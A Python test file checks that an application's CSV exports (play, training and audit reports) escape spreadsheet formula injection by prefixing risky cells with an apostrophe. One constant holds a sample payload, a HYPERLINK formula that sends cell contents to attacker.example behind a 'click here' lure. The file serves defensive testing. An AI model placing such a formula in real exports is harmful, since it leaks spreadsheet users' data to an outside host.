"""Every CSV export goes through one formula-safe writer: a text cell a spreadsheet would run
(=, +, -, @, tab, carriage return first) comes out with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from control_center.core.csv_export import csv_text, safe_cell
from control_center.models import AuditEntry
from control_center.services.audit_export import to_csv
from control_center.telemetry.csvout import report_csv as play_report_csv
from control_center.telemetry.play_report import PlayReport
from control_center.telemetry.play_report import ReportRow as PlayRow
from control_center.training.reports import ReportRow as TrainingRow
from control_center.training.reports import report_csv as training_report_csv

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # spreadsheets read the Vietnamese as UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_run_is_quoted(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_numbers_and_none_stay_as_they_are() -> None:
    assert [safe_cell(v) for v in ("Xã A", "a=b", 12, -3, -2.5, None, True)] == [
        "Xã A", "a=b", 12, -3, -2.5, "", "True"]
    (row,) = _rows(csv_text(["a", "b"], [["=1", -1]]))
    assert row == {"a": "'=1", "b": "-1"}


def test_play_report_csv() -> None:
    row = PlayRow(unit_id=3, unit_code="xa-a", unit_name=FORMULA, bulletin_id=7,
                  bulletin_title="-" + FORMULA, scheduled=2, completed=1)
    total = PlayRow(unit_id=1, unit_code="tinh", unit_name="@Tỉnh", bulletin_id=None,
                    bulletin_title="Tổng cộng / Total", scheduled=2, completed=1)
    report = PlayReport(unit_id=1, unit_name="@Tỉnh", start=datetime(2026, 9, 1, tzinfo=UTC),
                        end=datetime(2026, 9, 2, tzinfo=UTC), rows=[row], total=total)
    first, last = _rows(play_report_csv(report))
    assert (first["unit_name"], first["bulletin_title"]) == ("'" + FORMULA, "'-" + FORMULA)
    assert (first["scheduled"], first["bulletin_id"], last["unit_name"]) == ("2", "7", "'@Tỉnh")


def test_training_report_csv() -> None:
    row = TrainingRow(course_id=1, course_code="+pccc", course_title=FORMULA, unit_id=4,
                      unit_name="=1+1", assigned=3, started=2, completed=1, passed=1,
                      average_score=87.5)
    (out,) = _rows(training_report_csv([row]))
    assert (out["course_code"], out["course_title"], out["unit_name"]) == (
        "'+pccc", "'" + FORMULA, "'=1+1")
    assert (out["assigned"], out["average_score"]) == ("3", "87.50")


def test_audit_csv() -> None:
    entry = AuditEntry(id=5, at=datetime(2026, 9, 1, 6, tzinfo=UTC), actor=FORMULA,
                       source_ip=None, action="create", object_type="bulletin",
                       object_id="@7", detail="{}", unit_id=None, flagged=False)
    (out,) = _rows(to_csv([entry], ZoneInfo("Asia/Ho_Chi_Minh")))
    assert (out["actor"], out["object_id"], out["at_local"]) == (
        "'" + FORMULA, "'@7", "2026-09-01 13:00:00")
